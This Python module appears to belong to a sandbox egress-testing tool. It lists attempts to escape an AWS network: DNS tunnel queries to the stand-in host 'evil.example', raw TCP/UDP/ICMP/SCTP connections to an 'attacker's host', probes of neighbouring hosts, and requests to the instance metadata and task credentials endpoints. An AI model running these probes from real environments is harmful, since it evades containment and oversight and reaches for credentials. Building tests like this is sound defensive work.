"""Lines 5, 6, 7 and 11: past the gateway, over everything that a socket can do."""

from __future__ import annotations

import os
import socket
import struct

from glovebox.drill.scanner import Scanner, attempt

_TXT = 16
_UNLOGGED = "AWS's flow logs leave out link-local addresses"


def _question(name: str) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return os.urandom(2) + b"\x01\0\0\x01\0\0\0\0\0\0" + labels + b"\0" + struct.pack(">HH", _TXT, 1)


def _datagram(scanner: Scanner, place: tuple[str, int], data: bytes) -> str:
    with scanner.connect(*place, socket.SOCK_DGRAM) as line:
        return repr(scanner.ask(line, data)[:60])


@attempt(5, "a DNS tunnel through the VPC's resolver, over UDP")
def dns_udp(scanner: Scanner) -> str:
    return _datagram(scanner, (scanner.brief.resolvers[0], 53), _question(f"{scanner.marker}.evil.example"))


@attempt(5, "a DNS tunnel through the VPC's resolver, over TCP")
def dns_tcp(scanner: Scanner) -> str:
    question = _question(f"{scanner.marker}.evil.example")
    with scanner.connect(scanner.brief.resolvers[0], 53) as line:
        return repr(scanner.ask(line, len(question).to_bytes(2, "big") + question)[:60])


@attempt(5, "a DNS tunnel through the resolver's link-local address")
def dns_link_local(scanner: Scanner) -> str:
    return _datagram(scanner, (scanner.brief.resolvers[-1], 53), _question(f"{scanner.marker}.evil.example"))


@attempt(5, "a DNS tunnel below a name that looks like Amazon's")
def dns_suffix(scanner: Scanner) -> str:
    name = f"{scanner.marker}.s3.{scanner.brief.region}.amazonaws.com.evil.example"
    return _datagram(scanner, (scanner.brief.resolvers[0], 53), _question(name))


@attempt(5, "DNS to a public resolver")
def dns_public(scanner: Scanner) -> str:
    return _datagram(
        scanner, (scanner.brief.public_resolver, 53), _question(f"{scanner.marker}.evil.example")
    )


@attempt(6, "TCP to port 443 of the attacker's host")
def tcp(scanner: Scanner) -> str:
    return scanner.say(scanner.brief.evil, 443)


@attempt(6, "TCP to port 22 of the attacker's host")
def tcp_other_port(scanner: Scanner) -> str:
    return scanner.say(scanner.brief.evil, 22)


@attempt(6, "UDP to port 443 of the attacker's host (QUIC)")
def udp(scanner: Scanner) -> str:
    return _datagram(scanner, (scanner.brief.evil, 443), scanner.marker.encode())


@attempt(6, "an ICMP echo request with data", may_lack=True)
def icmp(scanner: Scanner) -> str:
    with scanner.connect(scanner.brief.evil, 0, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as line:
        return repr(scanner.ask(line, bytes([8, 0, 0, 0, 0, 0, 0, 1]) + scanner.marker.encode())[:60])


@attempt(6, "TCP over IPv6", lab_only="the networks have no IPv6, so no packet leaves that a log could show")
def ipv6(scanner: Scanner) -> str:
    return scanner.say(scanner.brief.evil_ipv6, 443)


@attempt(6, "UDP-Lite", may_lack=True)
def udp_lite(scanner: Scanner) -> str:
    with scanner.connect(scanner.brief.evil, 443, socket.SOCK_DGRAM, socket.IPPROTO_UDPLITE) as line:
        return repr(scanner.ask(line, scanner.marker.encode())[:60])


@attempt(6, "SCTP", may_lack=True)
def sctp(scanner: Scanner) -> str:
    with scanner.connect(scanner.brief.evil, 443, socket.SOCK_STREAM, socket.IPPROTO_SCTP) as line:
        return scanner.ask(line, scanner.marker.encode())


@attempt(7, "the neighbour task")
def neighbour(scanner: Scanner) -> str:
    return scanner.say(scanner.brief.neighbour, 8080)


@attempt(7, "another host of the peered network")
def bystander(scanner: Scanner) -> str:
    return scanner.say(scanner.brief.bystander, 22)


@attempt(7, "another port of the gateway")
def gateway_port(scanner: Scanner) -> str:
    return scanner.say(scanner.brief.gateway, 22)


@attempt(7, "another port of an endpoint")
def endpoint_port(scanner: Scanner) -> str:
    return scanner.say(scanner.brief.endpoint, 80)


@attempt(11, "the instance metadata service", lab_only=_UNLOGGED)
def metadata(scanner: Scanner) -> str:
    return scanner.say(scanner.brief.metadata[0], 80)


@attempt(11, "the task's credentials endpoint", lab_only=_UNLOGGED)
def task_credentials(scanner: Scanner) -> str:
    return scanner.say(scanner.brief.metadata[1], 80)


@attempt(11, "the instance metadata service, through the gateway")
def metadata_by_gateway(scanner: Scanner) -> str:
    said, line = scanner.tunnel(f"{scanner.brief.metadata[0]}:80")
    with line:
        return said + scanner.ask(line, f"GET /{scanner.marker} HTTP/1.1\r\n\r\n".encode())[:60]
